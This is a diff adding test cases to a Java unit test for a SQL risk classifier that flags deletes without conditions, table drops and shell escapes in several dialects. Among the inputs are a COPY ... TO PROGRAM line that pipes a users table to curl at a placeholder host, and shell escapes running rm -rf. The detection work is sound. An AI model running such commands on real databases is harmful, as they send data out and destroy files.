@@ -65,6 +65,12 @@ class SqlClassifierTest {
                 Arguments.of("UPDATE users SET x = (SELECT y FROM z WHERE z.id = 1)", set("update-without-where")),
                 Arguments.of("UPDATE users SET admin = true WHERE id = 7", set()),
                 Arguments.of("DELETE FROM t WHERE CURRENT OF c", set()),
+                // a condition that reads no column and cannot be evaluated counts as always true
+                Arguments.of("DELETE FROM t WHERE random() < 2", set("delete-without-where")),
+                Arguments.of("DELETE FROM t WHERE now() > '2000-01-01'", set("delete-without-where")),
+                Arguments.of("DELETE FROM t WHERE 2 * 3 = 6", set("delete-without-where")),
+                Arguments.of("DELETE FROM t WHERE active", set()),
+                Arguments.of("DELETE FROM t WHERE lower(name) = 'bob'", set()),
                 // alter
                 Arguments.of("ALTER TABLE users DROP COLUMN email", set("alter-drop")),
                 Arguments.of("ALTER TABLE users DROP CONSTRAINT users_pkey", set("alter-drop")),
@@ -105,7 +111,12 @@ class SqlClassifierTest {
                 Arguments.of("DO $$ BEGIN EXECUTE 'TRUNCATE ' || 'logs'; END $$", set("truncate")),
                 Arguments.of("CREATE FUNCTION f() RETURNS void AS $$ DROP TABLE users $$ LANGUAGE sql", set()),
                 Arguments.of("SELECT format('DROP TABLE %I', tablename) FROM pg_tables \\gexec", set("drop")),
-                Arguments.of("PREPARE s FROM 'DROP TABLE users'", set("drop")));
+                Arguments.of("PREPARE s FROM 'DROP TABLE users'", set("drop")),
+                Arguments.of("CALL log_event('DROP TABLE requested')", set()),
+                // the client or the server runs a shell command
+                Arguments.of("\\! rm -rf /tmp/x", set("shell-escape")),
+                Arguments.of("COPY users TO PROGRAM 'curl -d @- https://x.example'", set("shell-escape")),
+                Arguments.of("COPY users TO '/tmp/users.csv'", set()));
     }
 
     @ParameterizedTest(name = "{0}")
@@ -124,6 +135,19 @@ class SqlClassifierTest {
     @MethodSource("cases")
     void anUnknownDialectFindsAtLeastAsMuch(String sql, Set<String> expected) {
         assertTrue(kinds(SqlClassifier.standard(), sql, SqlDialect.GENERIC).containsAll(expected));
+    }
+
+    @Test
+    void theParserSettlesConstantConditionsTheTokensCannot() {
+        // (1) = (2) reads no column; the token reading cannot evaluate it and fails closed, JSqlParser can
+        String never = "DELETE FROM t WHERE (1) = (2)";
+        assertEquals(set(), kinds(SqlClassifier.standard(), never, SqlDialect.POSTGRES));
+        assertEquals(set("delete-without-where"), kinds(SqlClassifier.tokensOnly(), never, SqlDialect.POSTGRES));
+        String always = "DELETE FROM t WHERE (1) = (1)";
+        assertEquals(set("delete-without-where"), kinds(SqlClassifier.standard(), always, SqlDialect.POSTGRES));
+        // a dialect form the parser does not know: still fails closed
+        assertEquals(set("delete-without-where"),
+                kinds(SqlClassifier.standard(), "DELETE FROM t WHERE $$a$$ = $$a$$ || ''", SqlDialect.POSTGRES));
     }
 
     @Test
@@ -181,9 +205,55 @@ class SqlClassifierTest {
     }
 
     @Test
+    void pathologicalInputIsAnsweredOrRefusedNeverHangs() {
+        org.junit.jupiter.api.Assertions.assertTimeoutPreemptively(java.time.Duration.ofSeconds(30), () -> {
+            // 2,000 nested parentheses: beyond the evaluator's depth, the constant condition counts as true
+            String deep = "DELETE FROM t WHERE " + "(".repeat(2000) + "1=1" + ")".repeat(2000);
+            assertEquals(set("delete-without-where"), kinds(SqlClassifier.standard(), deep, SqlDialect.GENERIC));
+            // a 1 MB statement
+            String big = "DELETE FROM t WHERE id IN (" + "1,".repeat(500_000) + "1)";
+            assertEquals(set(), kinds(SqlClassifier.standard(), big, SqlDialect.GENERIC));
+            // 100,000 statements: refused as too complex (the engine asks)
+            String many = "SELECT 1;".repeat(100_000);
+            org.junit.jupiter.api.Assertions.assertThrows(SqlTooComplexException.class,
+                    () -> SqlClassifier.standard().classify(many, SqlDialect.GENERIC, TextOrigin.whole("b", many), ""));
+            String nested = "EXPLAIN ANALYZE ".repeat(5_000) + "DELETE FROM t";
+            org.junit.jupiter.api.Assertions.assertThrows(SqlTooComplexException.class,
+                    () -> SqlClassifier.standard().classify(nested, SqlDialect.GENERIC, TextOrigin.whole("b", nested), ""));
+        });
+    }
+
+    @Test
     void sqlServerBatchesAndBrackets() {
         assertEquals(set("drop"), kinds(SqlClassifier.standard(), "USE shop\nGO\nDROP TABLE [dbo].[users]\nGO", SqlDialect.MSSQL));
         assertEquals(set("delete-without-where"), kinds(SqlClassifier.standard(), "DELETE TOP (10) FROM [users]", SqlDialect.MSSQL));
+    }
+
+    @Test
+    void shellEscapesOfOtherClients() {
+        assertEquals(set("shell-escape"), kinds(SqlClassifier.standard(), ".shell rm -rf data", SqlDialect.SQLITE));
+        assertEquals(set("shell-escape"), kinds(SqlClassifier.standard(), "system rm -rf data", SqlDialect.MYSQL));
+        assertEquals(set(), kinds(SqlClassifier.standard(), ".schema users", SqlDialect.SQLITE));
+    }
+
+    @Test
+    void tsqlStatementsWithoutSemicolonsAreSeparated() {
+        assertEquals(set("drop"), kinds(SqlClassifier.standard(), "SELECT 1 DROP TABLE users", SqlDialect.MSSQL));
+        assertEquals(set("delete-without-where"),
+                kinds(SqlClassifier.standard(), "DELETE FROM a DELETE FROM b WHERE id = 1", SqlDialect.MSSQL));
+        assertEquals(set("drop"), kinds(SqlClassifier.standard(), "IF OBJECT_ID('t') IS NOT NULL DROP TABLE t", SqlDialect.MSSQL));
+        assertEquals(set("drop"), kinds(SqlClassifier.standard(), "EXEC sp_executesql N'DROP TABLE t'", SqlDialect.MSSQL));
+        // words that continue a statement
+        assertEquals(set(), kinds(SqlClassifier.standard(),
+                "CREATE TABLE c (p int REFERENCES p(id) ON DELETE CASCADE ON UPDATE NO ACTION)", SqlDialect.MSSQL));
+        assertEquals(set(), kinds(SqlClassifier.standard(), "SELECT * FROM t WITH (UPDLOCK) WHERE id = 1", SqlDialect.MSSQL));
+        assertEquals(set(), kinds(SqlClassifier.standard(),
+                "INSERT INTO t (id) VALUES (1) ON DUPLICATE KEY UPDATE n = n + 1", SqlDialect.GENERIC));
+        assertEquals(set(), kinds(SqlClassifier.standard(),
+                "INSERT INTO t VALUES (1) ON CONFLICT (id) DO UPDATE SET n = 2", SqlDialect.GENERIC));
+        assertEquals(set(), kinds(SqlClassifier.standard(), "SELECT * FROM jobs FOR UPDATE SKIP LOCKED", SqlDialect.GENERIC));
+        assertEquals(set(), kinds(SqlClassifier.standard(),
+                "MERGE INTO t USING s ON t.id = s.id WHEN MATCHED THEN DELETE", SqlDialect.MSSQL));
     }
 
     @Test
